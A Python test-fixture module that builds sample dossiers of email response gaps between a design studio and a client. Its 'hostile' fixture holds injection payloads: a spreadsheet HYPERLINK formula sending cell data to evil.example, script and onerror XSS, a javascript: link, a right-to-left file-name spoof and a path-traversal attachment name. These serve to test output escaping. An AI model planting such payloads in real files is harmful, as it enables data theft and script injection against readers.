"""Dossiers to print: a credible small one, a hostile one, and one with many facts."""

# The matter is written one message and one fact a line:
# ruff: noqa: E501

from __future__ import annotations

import hashlib
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

from harvester.model.calls import Call, Outcome
from harvester.model.dossier import Dossier, Exchange, Rule
from harvester.model.engagement import Engagement, SourceView
from harvester.model.facts import Citation, Fact
from harvester.model.gaps import ContactGap, Earlier, Gap, MailRef, Silence, Stats
from harvester.model.ledger import FolderCoverage, ItemNote, Ledger, Problem, Searched, Sighting
from harvester.model.mail import Address, Attachment, Expectation, Message, MessageClass, StatedTime
from harvester.model.matter import Party, Person, Side, WorkingHours
from harvester.model.raised import Raised
from harvester.model.source import Role

ME, ANN = "me@studionorth.example", "ann@studionorth.example"
BOB, CAROL, BOB_HOME = "bob.roe@acme.example", "carol.lane@acme.example", "bob.roe@gmail.com"
NAMES = {ME: "Ann North", ANN: "Ann North", BOB: "Bob Roe", CAROL: "Carol Lane", BOB_HOME: "Bob Roe"}
AS_OF = datetime(2026, 3, 31, 10, tzinfo=UTC)
PULL = AS_OF


def at(day: int, hour: int, minute: int = 0) -> datetime:
    """An instant of March 2026, in UTC."""
    return datetime(2026, 3, day, hour, minute, tzinfo=UTC)


def sha(name: str) -> str:
    return hashlib.sha256(name.encode()).hexdigest()


def mail(
    name: str, sender: str, when: datetime, subject: str, text: str,
    *, to: tuple[str, ...] = (), cc: tuple[str, ...] = (), kind: MessageClass = MessageClass.HUMAN,
    expects: Expectation = Expectation.UNKNOWN, attachments: tuple[Attachment, ...] = (),
    flags: tuple[str, ...] = (), rule: str = "C10",
) -> Exchange:  # fmt: skip
    ours = sender.endswith("studionorth.example")
    message = Message(
        sha256=sha(name), size=1800 + len(text), message_id=f"<{name}@{sender.partition('@')[2]}>",
        authors=(Address(email=sender, name=NAMES.get(sender, "")),),
        to=tuple(Address(email=one, name=NAMES.get(one, "")) for one in to),
        cc=tuple(Address(email=one, name=NAMES.get(one, "")) for one in cc),
        subject=subject, date=StatedTime(at=when, zone="explicit", offset_minutes=60 if ours else -240),
        received=None if ours else when + timedelta(seconds=6), text=text, new_text=text, attachments=attachments,
    )  # fmt: skip
    sighting = Sighting(
        sha256=sha(name), source="mail", kind="imap", folder="Sent" if ours else "INBOX",
        role=Role.SENT if ours else Role.INBOX, uidvalidity=1, uid=len(name) + when.day, internal_date=when, seen_at=PULL,
    )  # fmt: skip
    return Exchange(
        key=f"k-{name}", message=message, side=Side.US if ours else Side.CLIENT, author=sender, at=when,
        basis="server" if ours else "Date", kind=kind, rule=rule, expects=expects,
        expects_rule="X3 could you" if expects is Expectation.YES else "X4", thread=f"t-{subject.removeprefix('Re: ')}",
        subject_base=subject.removeprefix("Re: "), flags=flags, sightings=(sighting,), originals=(sha(name),),
    )  # fmt: skip


PDF = Attachment(name="homepage-draft.pdf", media_type="application/pdf", size=248_113, sha256=sha("pdf"), part="2")
YES = Expectation.YES

MAILS: Mapping[str, Exchange] = {
    name: mail(name, *rest, **options)
    for name, rest, options in (
        ("draft", (ME, at(2, 9), "Homepage draft", "Hello Bob,\n\nthe first draft of the homepage is attached.\nCould you please confirm the layout by Wednesday?\n\nKind regards\nAnn"), {"to": (BOB,), "expects": YES, "attachments": (PDF,)}),
        ("draft-re", (CAROL, at(5, 16, 30), "Re: Homepage draft", "Hi Ann,\n\nlooks good, please go on.\n\nCarol\n\n> the first draft of the homepage is attached.\n> Could you please confirm the layout by Wednesday?"), {"to": (ME,)}),
        ("texts", (ME, at(9, 9), "Texts for the team page", "Hello Bob,\n\ncould you please send the texts for the team page? We need them to go on with the page.\n\nAnn"), {"to": (BOB,), "cc": (CAROL,), "expects": YES}),
        ("texts-ooo", (BOB, at(9, 9, 1), "Automatic reply: Texts for the team page", "I am out of the office until 11 March."), {"to": (ME,), "kind": MessageClass.AUTO_REPLY, "rule": "C7"}),
        ("texts-2", (ME, at(13, 9), "Re: Texts for the team page", "Hello Bob, a short reminder: could you send the texts?"), {"to": (BOB,), "expects": YES}),
        ("texts-3", (ME, at(18, 9), "Re: Texts for the team page", "Hello Bob, are the texts on their way?"), {"to": (BOB,), "expects": YES}),
        ("texts-re", (BOB, at(24, 14), "Re: Texts for the team page", "Here they are."), {"to": (ME,)}),
        ("invoice-q", (CAROL, at(10, 18), "Invoice address", "Hi Ann, which address do you want on the invoice?"), {"to": (ME,), "expects": YES}),
        ("invoice-re", (ME, at(16, 10, 15), "Re: Invoice address", "Hi Carol, sorry for the delay: Studio North, 1 North Street."), {"to": (CAROL,)}),
        ("hosting-q", (BOB, at(26, 15), "Hosting", "Ann, can you tell us what hosting would cost from May?"), {"to": (ME,), "expects": YES}),
        ("contract-b", (ME, at(12, 8), "Contract extension", "Dear Bob, please sign the extension."), {"to": (BOB_HOME,), "expects": YES}),
        ("bounce", ("mailer-daemon@gmail.com", at(12, 8, 1), "Delivery Status Notification (Failure)", "The address was not found."), {"to": (ME,), "kind": MessageClass.BOUNCE, "rule": "C1"}),
        ("launch", (ME, at(16, 9), "Launch date", "Hello Bob, can we fix 20 April as the launch date?"), {"to": (BOB,), "expects": YES}),
        ("other", (CAROL, at(17, 13), "Logo files", "Hi Ann, here are the logo files."), {"to": (ME,)}),
        ("photos", (ME, at(19, 9), "Photos", "Hello Carol, the photos are in the shared folder now."), {"to": (CAROL,)}),
        ("access", (ME, at(25, 9), "Access to the old server", "Hello Bob, could you send us the access to the old server?"), {"to": (BOB,), "cc": (ANN,), "expects": YES}),
    )
}  # fmt: skip


def ref(name: str) -> MailRef:
    one = MAILS[name]
    assert one.at is not None
    return MailRef(sha256=one.message.sha256, message_id=one.message.message_id, sender=one.author,
                   to=tuple(to.email for to in one.message.to), at=one.at)  # fmt: skip


def gap(
    name: str, owed_by: Side, opener: str, closer: str | None, hours: tuple[float, float, int], *,
    claim: str = "firm", reasons: tuple[str, ...] = (), flags: tuple[str, ...] = (), level: str = "A",
    chasers: tuple[str, ...] = (), since: float | None = None, attempts: tuple[str, ...] = (),
) -> Gap:  # fmt: skip
    start, end = ref(opener), ref(closer) if closer else None
    return Gap(
        gap_id=f"g-{name}", thread=MAILS[opener].thread, subject=MAILS[opener].message.subject, owed_by=owed_by, level=level,
        claim=claim, reasons=reasons, status="answered" if end else "open", started_at=start.at, ended_at=end.at if end else None,
        opener=start, closer=end, responder=end.sender if end else None, calendar_hours=hours[0], business_hours=hours[1],
        business_days=hours[2], since_last_ask_hours=hours[0] if since is None else since,
        chasers=tuple(ref(one) for one in chasers), attempts=attempts, asked=start.to,
        responder_is_addressee=end.sender in start.to if end else None, calendar=f"{owed_by.value}@9f2c1e", flags=flags,
        rules=("R1", "R10", "X5", "X6"),
    )  # fmt: skip


GAPS = (
    gap("invoice", Side.US, "invoice-q", "invoice-re", (136.25, 28.25, 4)),
    gap("hosting", Side.US, "hosting-q", None, (115, 18, 3)),
    gap("draft", Side.CLIENT, "draft", "draft-re", (79.5, 25.5, 3), flags=("other_personnel",)),
    gap("texts", Side.CLIENT, "texts", "texts-re", (365, 89, 11), flags=("auto_reply",), chasers=("texts-2", "texts-3"),
        since=149, attempts=("call-20",)),
    replace(
        gap("launch", Side.CLIENT, "launch", None, (361, 88, 11), claim="review", reasons=("other_contact",),
            flags=("other_contact",)),
        flag_sources=Raised((("other_contact", sha("other")),)),
    ),
    replace(gap("photos", Side.CLIENT, "photos", None, (289, 64, 8), claim="review", reasons=("level_b",), level="B"),
            preceding=(Earlier(id="<earlier@studionorth.example>", kind="human"),)),
    gap("access", Side.CLIENT, "access", None, (145, 32, 4), claim="review", reasons=("coverage_incomplete",),
        flags=("coverage_incomplete",)),
)  # fmt: skip

SEARCHED = "mailbox “mail” (INBOX, Sent, Archive, Spam, Trash, Projects), up to Tuesday 31 March 2026, 12:00 CEST"


def fact(no: int, side: Side, kind: str, when: datetime | date, statement: str, *evidence: str, **more: object) -> Fact:
    values: dict[str, object] = {
        "no": f"F-{no:03d}", "fact_id": f"f-{no}", "at": when, "precision": "second", "party": side, "kind": kind,
        "statement": statement, "people": (), "claim": "firm", "strength": "E2", "coverage": SEARCHED,
        "evidence": tuple(
            Citation(sha256=sha(name), message_id=MAILS[name].message.message_id, quote=MAILS[name].message.subject,
                     part="header:Subject")
            for name in evidence
        ),
    }  # fmt: skip
    return Fact(**(values | more))  # type: ignore[arg-type]  # values are checked by the tests that print them


FACTS = (
    fact(1, Side.US, "late_answer", at(10, 18), "On Tuesday 10 March 2026 at 19:00 CET Carol Lane wrote to Ann North about “Invoice address”. Ann North answered on Monday 16 March 2026 at 11:15 CET, 5 days 16 h (28.2 business hours) later.",
         "invoice-q", "invoice-re", gap_id="g-invoice", people=(CAROL, ME)),
    fact(2, Side.US, "undelivered", at(12, 8, 1), "On Thursday 12 March 2026 at 09:00 CET Ann North wrote to bob.roe@gmail.com about “Contract extension”. A delivery report of 09:01 CET states that it could not be delivered.",
         "contract-b", "bounce", people=(ME, BOB_HOME)),
    fact(3, Side.US, "unanswered", at(26, 15), "On Thursday 26 March 2026 at 16:00 CET Bob Roe wrote to Ann North about “Hosting”. No answer of Studio North is recorded up to Tuesday 31 March 2026, 12:00 CEST.",
         "hosting-q", gap_id="g-hosting", people=(BOB, ME), fix="Answer Bob Roe’s question about hosting; it has been open for 4 days 19 h."),
    fact(4, Side.CLIENT, "late_answer", at(2, 9), "On Monday 2 March 2026 at 10:00 CET Ann North wrote to Bob Roe about “Homepage draft”. The first recorded answer of Acme Ltd is Carol Lane’s of Thursday 5 March 2026 at 11:30 EST, 3 days 7 h (25.5 business hours) later.",
         "draft", "draft-re", gap_id="g-draft", people=(ME, BOB, CAROL), strength="E3",
         beside=("Bob Roe, who was asked, is not recorded as writing after the question; a colleague replied.",)),
    fact(5, Side.CLIENT, "late_answer", at(9, 9), "On Monday 9 March 2026 at 10:00 CET Ann North wrote to Bob Roe about “Texts for the team page”, and again on 13 and 18 March. The first recorded answer of Acme Ltd is Bob Roe’s of Tuesday 24 March 2026 at 10:00 EDT, 15 days 5 h (89 business hours) later.",
         "texts", "texts-2", "texts-3", "texts-re", gap_id="g-texts", people=(ME, BOB), clause="SOW 4.2", obligation="reply", strength="E3",
         beside=("An automatic reply of Monday 9 March 2026 states: “I am out of the office until 11 March.”", "Studio North tried to call on Friday 20 March 2026 at 11:00 CET; voicemail.")),
    fact(6, Side.CLIENT, "absence_notice", at(9, 9, 1), "On Monday 9 March 2026 at 10:01 CET an automatic reply of Bob Roe stated: “I am out of the office until 11 March.”",
         "texts-ooo", people=(BOB,), strength="E4"),
    fact(7, Side.CLIENT, "unanswered", at(16, 9), "On Monday 16 March 2026 at 10:00 CET Ann North wrote to Bob Roe about “Launch date”. No reply to it is recorded up to Tuesday 31 March 2026, 12:00 CEST; other contact in this time may have dealt with it.",
         "launch", gap_id="g-launch", people=(ME, BOB), claim="review", reason="other contact in this time",
         beside=("Carol Lane wrote to Ann North on Tuesday 17 March 2026 about “Logo files”.",)),
    fact(8, Side.CLIENT, "unanswered", at(25, 9), "On Wednesday 25 March 2026 at 10:00 CET Ann North wrote to Bob Roe about “Access to the old server”. Whether a reply arrived is not established: the folder “Projects” of “mail” was searched up to Thursday 26 March 2026, 03:00 CET only.",
         "access", gap_id="g-access", people=(ME, BOB), claim="not_established",
         reason="The folder “Projects” could not be opened in the last search."),
)  # fmt: skip


def engagement() -> Engagement:
    days = dict.fromkeys(range(5), ((540, 1020),))
    hours = {"week": days, "first": date(2025, 1, 1), "last": date(2027, 12, 31)}
    closed = frozenset({date(2026, 4, 3), date(2026, 4, 6), date(2026, 5, 1), date(2026, 12, 25), date(2026, 12, 26)})
    return Engagement(
        key="acme",
        us=Party(name="Studio North", addresses=frozenset({ME, ANN}), domains=frozenset({"studionorth.example"}),
                 people=(Person(emails=(ME, ANN), name="Ann North"),)),
        client=Party(name="Acme Ltd", addresses=frozenset({BOB_HOME}), domains=frozenset({"acme.example"}), people=(
            Person(emails=(BOB, BOB_HOME), name="Bob Roe", role="signatory", contact=True),
            Person(emails=(CAROL,), name="Carol Lane", role="marketing"))),
        us_hours=WorkingHours(timezone="Europe/Berlin", closed=closed, source="holidays 0.80, DE-BE", **hours),  # type: ignore[arg-type]  # mixed values
        client_hours=WorkingHours(timezone="America/New_York", source="none configured", assumed=True, **hours),  # type: ignore[arg-type]  # mixed values
        sources=(SourceView(name="mail", kind="imap", live=True, addresses=frozenset({ME, ANN}), login=ME),),
    )  # fmt: skip


def row(folder: str, role: Role, seen: int, matched: int, **more: object) -> FolderCoverage:
    values: dict[str, object] = {
        "source": "mail", "kind": "imap", "folder": folder, "role": role, "live": True, "swept_at": PULL, "reach": PULL,
        "first_good_sweep": PULL, "on_server": seen, "seen": seen, "matched": matched, "stored": matched,
        "unmatched": seen - matched, "complete": True, "peer": "imap.example.com:993", "version": "0.1.0",
    }  # fmt: skip
    return FolderCoverage(**(values | more))  # type: ignore[arg-type]  # as above


LEDGER = Ledger(
    folders=(
        row("INBOX", Role.INBOX, 4211, 8, inbound=4190),
        row("Sent", Role.SENT, 1893, 9, outbound=1893),
        row("Archive", Role.ARCHIVE, 15_204, 0),
        row("Spam", Role.JUNK, 312, 0),
        row("Trash", Role.TRASH, 96, 0, failed=1),
        row("Projects", Role.OTHER, 77, 3, complete=False, reach=at(26, 2), reason="the server refused to open it: [NOPERM]"),
    ),
    items=(ItemNote(source="mail", folder="Trash", locator="UID 4711", reason="larger than 50 MB: only its header is kept",
                    at=at(3, 8), authors=("news@example.org",)),),
    as_of=AS_OF,
)  # fmt: skip

RULES = (
    Rule(
        id="R1",
        text="A message of ours to a person of the client opens a gap that the client owes, unless one is open.",
    ),
    Rule(
        id="R10", text="The start is the first unanswered message; further questions from 4 hours later are reminders."
    ),
    Rule(id="X5", text="Only a message that asks opens a gap of level A; level B is listed in an appendix."),
    Rule(id="X6", text="A gap is established when it is of level A and nothing beside it could change the picture."),
)


def small() -> Dossier:
    """Both sides, all three claims, a bounce, calls, one level B gap."""
    return Dossier(
        version="0.1.0", engagement=engagement(), as_of=AS_OF, complete=False,
        searched=(Searched(source="mail", kind="imap", folders=("INBOX", "Sent", "Archive", "Spam", "Trash", "Projects"),
                           to=at(26, 2)),),
        problems=(Problem(source="mail", folder="Projects", reason="the server refused to open it: [NOPERM]"),),
        ledger=LEDGER, exchanges=tuple(sorted(MAILS.values(), key=lambda one: one.at or AS_OF)),
        calls=(
            Call(id="call-20", start=at(20, 10), end=at(20, 10, 1), direction="out", outcome=Outcome.VOICEMAIL, people=(BOB,),
                 title="Texts"),
            Call(id="call-27", start=at(27, 14), end=at(27, 14, 30), direction="in", outcome=Outcome.UNKNOWN, people=(BOB, CAROL),
                 title="Status"),
        ),
        gaps=GAPS,
        contacts=(ContactGap(gap_id="g-draft", contact=BOB, status="open", claim="review", ended_at=None,
                             calendar_hours=697, business_hours=168),),
        silences=(Silence(started_at=at(18, 9), ended_at=at(24, 14), calendar_hours=149, business_hours=35, business_days=4,
                          opener_sha256=sha("texts-3"), ended_by="mail"),
                  Silence(started_at=at(2, 9), ended_at=at(5, 16, 30), calendar_hours=79.5, business_hours=25.5,
                          business_days=3, opener_sha256=sha("draft"), ended_by="mail")),
        stats={
            Side.US: Stats(n=2, answered=1, open=1, chasers=0, median_hours=136.25, p80_hours=None, median_business_hours=28.25,
                           p80_business_hours=None, longest_open_hours=115, longest_closed_hours=136.25),
            Side.CLIENT: Stats(n=4, answered=2, open=2, chasers=2, median_hours=365, p80_hours=None, median_business_hours=89,
                               p80_business_hours=None, longest_open_hours=361, longest_closed_hours=365),
        },
        facts=FACTS,
        balance="This list holds 3 facts about Studio North and 5 about Acme Ltd. One exchange in which nothing clearly asked for an answer stands in the appendix.",
        notes=("No contract file was given; promises of the contract are not part of this list.",),
        found_own=(ME, ANN), found_client=(f"Bob Roe <{BOB}>, <{BOB_HOME}>", f"Carol Lane <{CAROL}>"),
        undated=(sha("undated"),), unreadable=((sha("broken"), "the header could not be read"),),
        message_counts={"human": 14, "auto_reply": 1, "bounce": 1}, rules=RULES,
    )  # fmt: skip


EVIL = (
    "=HYPERLINK(\"http://evil.example/?\"&A1)<script>document.title='owned'</script>\u202egnp.exe\x1b[31m\x00"
    "<img src=http://evil.example/x.png onerror=alert(1)> {{ 7*7 }} [x](javascript:alert(1)) `|`;=1+1"
)


def hostile() -> Dossier:
    """Every foreign string tries something: markup, formulas, control and direction characters, length."""
    base = small()
    evil_mail = mail("evil", BOB, at(4, 8), EVIL * 12, f"{EVIL}\r\n</pre></details><h1>free</h1>\ud800\n> {EVIL}", to=(ME,),
                     attachments=(replace(PDF, name=f"../../{EVIL}"),))  # fmt: skip
    evil_mail = replace(
        evil_mail,
        message=replace(evil_mail.message, authors=(Address(email=BOB, name=EVIL),)),
        sightings=tuple(replace(one, folder=EVIL, labels=(EVIL,)) for one in evil_mail.sightings),
    )
    evil_fact = replace(
        FACTS[3], statement=f"On Monday … about “{EVIL * 12}”.", reason=EVIL, beside=(EVIL,), coverage=EVIL, clause=EVIL,
        people=(EVIL,), claim="review", evidence=(Citation(sha256=sha("evil"), message_id="<evil>", quote=EVIL),),
    )  # fmt: skip
    return replace(
        base, exchanges=(evil_mail, *base.exchanges), facts=(evil_fact, *base.facts[:3]), balance=EVIL, notes=(EVIL,),
        gaps=tuple(replace(one, subject=EVIL * 12) for one in base.gaps), found_own=(EVIL,), found_client=(EVIL,),
        problems=(Problem(source=EVIL, folder=EVIL, reason=EVIL),),
        ledger=Ledger(folders=(row(EVIL, Role.INBOX, 3, 1, reason=EVIL, complete=False),),
                      items=(ItemNote(source=EVIL, folder=EVIL, locator=EVIL, reason=EVIL),), as_of=AS_OF),
        rules=(Rule(id="R1", text=EVIL),), unreadable=((sha("broken"), EVIL),), message_counts={EVIL: 1},
        engagement=replace(base.engagement, client=replace(base.engagement.client, name=f"Acme {EVIL}")),
    )  # fmt: skip


def many(count: int = 300) -> Dossier:
    """A long matter: `count` facts over two years, each with its messages."""
    base = small()
    exchanges, gaps, facts = [], [], []
    for number in range(count):
        shift = timedelta(hours=58 * number)
        ask, answer = MAILS["texts"], MAILS["texts-re"]
        ids = [hashlib.sha256(f"{number}-{part}".encode()).hexdigest() for part in ("ask", "answer")]
        start, end = at(9, 9) - shift, at(9, 9) - shift + timedelta(hours=20 + number % 50)
        for identity, one, when in zip(ids, (ask, answer), (start, end), strict=True):
            message = replace(one.message, sha256=identity, text="A line of a longer message.\n" * 40)
            exchanges.append(replace(one, at=when, message=message, originals=(identity,)))
        side = Side.US if number % 4 == 0 else Side.CLIENT
        one_gap = GAPS[3]
        gaps.append(replace(
            one_gap, gap_id=f"g-{number}", owed_by=side, started_at=start, ended_at=end, chasers=(), attempts=(),
            opener=replace(one_gap.opener, sha256=ids[0], at=start), calendar_hours=(end - start).total_seconds() / 3600,
        ))  # fmt: skip
        facts.append(replace(
            FACTS[4], no=f"F-{number + 1:03d}", fact_id=f"f-{number}", at=start, party=side, gap_id=f"g-{number}", beside=(),
            evidence=tuple(Citation(sha256=identity, message_id=None) for identity in ids),
        ))  # fmt: skip
    return replace(
        base, exchanges=tuple(exchanges), gaps=tuple(gaps), facts=tuple(sorted(facts, key=lambda f: f.party != Side.US))
    )
